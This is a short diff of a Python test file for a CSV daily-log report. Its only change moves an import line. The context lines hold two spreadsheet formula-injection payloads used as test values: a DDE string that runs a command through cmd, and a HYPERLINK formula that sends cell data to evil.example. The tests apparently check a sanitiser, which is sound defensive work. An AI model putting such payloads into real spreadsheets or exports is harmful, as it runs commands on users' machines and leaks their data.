@@ -10,9 +10,9 @@ from datetime import UTC, date, datetime
 
 import pytest
 
-from station.reports.spreadsheet import neutral as neutralise
 from station.reports.daily_log import build_daily_log
 from station.reports.daily_log_render import daily_log_csv
+from station.reports.spreadsheet import neutral as neutralise
 
 MODEL = "=cmd|' /C calc'!A0"
 SERIAL = '=HYPERLINK("http://evil.example/?d="&A1,"voir")'
